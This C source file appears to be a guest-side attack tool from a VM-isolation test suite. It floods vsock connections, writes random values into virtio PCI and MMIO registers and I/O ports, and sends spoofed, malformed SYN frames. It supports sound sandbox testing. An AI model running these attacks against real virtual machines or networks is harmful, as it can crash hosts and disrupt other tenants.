/*
 * An attacker who owns a guest's kernel, for he has all capabilities in it: `guest WHAT …`. Exit 66 is a breach, as with the attack tool;
 * what only tires the other side ends with 0, and whoever calls looks at the others.
 *
 *   vsock CID PORT       connects to somebody else than the host's end
 *   flood CID PORT COUNT connections that say nothing, and stay until the end
 *   pci                  garbage into the registers and rings of every virtio device behind PCI
 *   memory DEVICE        garbage into the registers of every virtio device in memory, through the device of memory
 *   ports                garbage into I/O ports
 *   get ADDRESS PORT     what a server says to a request
 *   frames ADDRESS PORT  frames with forged addresses, by the network device itself
 */
#include <arpa/inet.h>
#include <errno.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#include <linux/vm_sockets.h>

static uint32_t state = 20261127;

static uint32_t any(void) { return state = state * 1664525 + 1013904223; }

static int dial(unsigned cid, unsigned port) {
  struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
  int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (fd < 0) return -1;
  if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS) {
    (void)close(fd);
    return -1;
  }
  return fd;
}

static int vsock(unsigned cid, unsigned port) {
  int fd = dial(cid, port), error = 0;
  socklen_t length = sizeof error;
  struct pollfd wait = {.fd = fd, .events = POLLOUT};
  if (fd < 0 || poll(&wait, 1, 2500) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) != 0 || error != 0) {
    return printf("held: %u:%u\n", cid, port) < 0;
  }
  char byte;
  wait.events = POLLIN | POLLRDHUP;
  /* One that is closed at once was none. */
  if (poll(&wait, 1, 1000) == 1 && recv(fd, &byte, 1, 0) <= 0) return printf("held: %u:%u closed\n", cid, port) < 0;
  printf("breach: %u:%u\n", cid, port);
  return 66;
}

static int flood(unsigned cid, unsigned port, unsigned count) {
  unsigned made = 0;
  for (unsigned i = 0; i < count; i++) made += dial(cid, port) >= 0 ? 1 : 0;
  printf("flooded: %u\n", made);
  return 0;
}

static void spoil(volatile uint8_t *at, size_t bytes) {
  for (unsigned i = 0; i < 4000; i++) {
    uint32_t where = any() % (uint32_t)(bytes - 4) & ~3u;
    /* Wide and narrow, small numbers and large ones. */
    switch (any() % 4) {
      case 0: at[where] = (uint8_t)any(); break;
      case 1: *(volatile uint16_t *)(at + where) = (uint16_t)any(); break;
      case 2: *(volatile uint32_t *)(at + where) = any() % 16; break;
      default: *(volatile uint32_t *)(at + where) = any(); break;
    }
  }
}

static int spoil_file(const char *path) {
  struct stat status;
  int fd = open(path, O_RDWR);
  if (fd < 0 || fstat(fd, &status) != 0 || status.st_size < 4096) return 0;
  void *at = mmap(NULL, (size_t)status.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (at == MAP_FAILED) return 0;
  spoil(at, (size_t)status.st_size);
  return 1;
}

static int pci(void) {
  static const char root[] = "/sys/bus/pci/devices";
  char path[512];
  int reached = 0;
  DIR *devices = opendir(root);
  for (struct dirent *entry; devices != NULL && (entry = readdir(devices)) != NULL;) {
    if (entry->d_name[0] == '.') continue;
    for (int bar = 0; bar < 6; bar++) {
      (void)snprintf(path, sizeof path, "%s/%.64s/resource%d", root, entry->d_name, bar);
      reached += spoil_file(path);
    }
    (void)snprintf(path, sizeof path, "%s/%.64s/config", root, entry->d_name);
    int fd = open(path, O_RDWR);
    for (unsigned i = 0; fd >= 0 && i < 500; i++) {
      uint32_t value = any();
      reached += pwrite(fd, &value, 4, any() % 1020 & ~3u) == 4 ? 1 : 0;
    }
  }
  printf("reached: %d\n", reached);
  return reached > 0 ? 0 : 77;
}

/* QEMU's machine has 24 devices of 512 bytes there. */
static int memory(const char *device) {
  int fd = open(device, O_RDWR | O_SYNC);
  if (fd < 0) return perror(device), 77;
  volatile uint8_t *at = mmap(NULL, 24 * 512, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0xfeb00000);
  if (at == MAP_FAILED) return perror("mmap"), 77;
  for (unsigned i = 0; i < 20000; i++) *(volatile uint32_t *)(at + (any() % (24 * 128)) * 4) = any() % 2 ? any() : any() % 8;
  return puts("reached: 1") < 0;
}

static int ports(void) {
  if (iopl(3) != 0) return perror("iopl"), 77;
  for (unsigned i = 0; i < 20000; i++) {
    unsigned short port = (unsigned short)(any() % 2 ? 0x510 + any() % 12 : 0xcf8 + any() % 8);
    outb((unsigned char)any(), port);
    (void)inb(port);
  }
  return puts("reached: 1") < 0;
}

static uint16_t sum(const void *bytes, size_t length, uint32_t total) {
  const uint8_t *at = bytes;
  for (size_t i = 0; i + 1 < length; i += 2) total += (uint32_t)(at[i] << 8 | at[i + 1]);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return htons((uint16_t)~total);
}

/* A SYN from `from` to each port, of no length that it says where `is_broken`. */
static void send_syn(int fd, const struct sockaddr_ll *device, const char *from, const char *to, unsigned port, int is_broken) {
  struct {
    uint8_t ethernet[14];
    struct iphdr ip;
    struct tcphdr tcp;
  } __attribute__((packed)) frame = {.ethernet = {0x52, 0x55, 10, 0, 2, 2, 0x52, 0x54, 0, 0, 0, 2, 8, 0}};
  frame.ip = (struct iphdr){.version = 4, .ihl = is_broken ? 15 : 5, .ttl = 64, .protocol = IPPROTO_TCP};
  frame.ip.tot_len = htons(is_broken ? 65535 : sizeof frame.ip + sizeof frame.tcp);
  frame.ip.saddr = inet_addr(from);
  frame.ip.daddr = inet_addr(to);
  frame.ip.check = sum(&frame.ip, sizeof frame.ip, 0);
  frame.tcp = (struct tcphdr){.source = htons((uint16_t)(1024 + any() % 60000)), .dest = htons((uint16_t)port), .doff = 5, .syn = 1};
  frame.tcp.window = htons(8192);
  struct {
    uint32_t from, to;
    uint8_t zero, protocol;
    uint16_t length;
  } pseudo = {frame.ip.saddr, frame.ip.daddr, 0, IPPROTO_TCP, htons(sizeof frame.tcp)};
  uint32_t total = (uint16_t)~ntohs(sum(&pseudo, sizeof pseudo, 0));
  frame.tcp.check = sum(&frame.tcp, sizeof frame.tcp, total);
  (void)sendto(fd, &frame, sizeof frame, 0, (const struct sockaddr *)device, sizeof *device);
}

static int frames(const char *to, unsigned port) {
  static const char *const sources[] = {"10.0.2.15", "10.0.2.2", "10.0.2.77", "127.0.0.1", "169.254.1.1", "0.0.0.0", "255.255.255.255"};
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct sockaddr_ll device = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
  if (fd < 0 || device.sll_ifindex == 0) return perror("packet"), 77;
  for (unsigned i = 0; i < 7 * 6; i++) send_syn(fd, &device, sources[i % 7], to, port, i % 3 == 2);
  return puts("sent") < 0;
}

static int get(const char *to, unsigned port) {
  static const char request[] = "GET / HTTP/1.0\r\n\r\n";
  struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
  int is_six = inet_pton(AF_INET6, to, &six.sin6_addr) == 1;
  const struct timeval patience = {.tv_sec = 4};
  char answer[2048];
  if (!is_six && inet_pton(AF_INET, to, &four.sin_addr) != 1) return 2;
  int fd = socket(is_six ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
  (void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  const struct sockaddr *address = is_six ? (const struct sockaddr *)&six : (const struct sockaddr *)&four;
  if (connect(fd, address, is_six ? sizeof six : sizeof four) != 0) return printf("%s: %s\n", to, strerror(errno)) < 0;
  if (send(fd, request, sizeof request - 1, 0) < 0) return printf("%s: %s\n", to, strerror(errno)) < 0;
  for (ssize_t got; (got = recv(fd, answer, sizeof answer, 0)) > 0;) (void)fwrite(answer, 1, (size_t)got, stdout);
  return puts("") < 0;
}

int main(int argc, char **argv) {
  unsigned numbers[5] = {0};
  for (int i = 2; i < argc && i < 5; i++) numbers[i] = (unsigned)strtoul(argv[i], NULL, 10);
  if (argc == 4 && strcmp(argv[1], "vsock") == 0) return vsock(numbers[2], numbers[3]);
  if (argc == 5 && strcmp(argv[1], "flood") == 0) return flood(numbers[2], numbers[3], numbers[4]);
  if (argc == 2 && strcmp(argv[1], "pci") == 0) return pci();
  if (argc == 3 && strcmp(argv[1], "memory") == 0) return memory(argv[2]);
  if (argc == 2 && strcmp(argv[1], "ports") == 0) return ports();
  if (argc == 4 && strcmp(argv[1], "get") == 0) return get(argv[2], numbers[3]);
  if (argc == 4 && strcmp(argv[1], "frames") == 0) return frames(argv[2], numbers[3]);
  return 2;
}
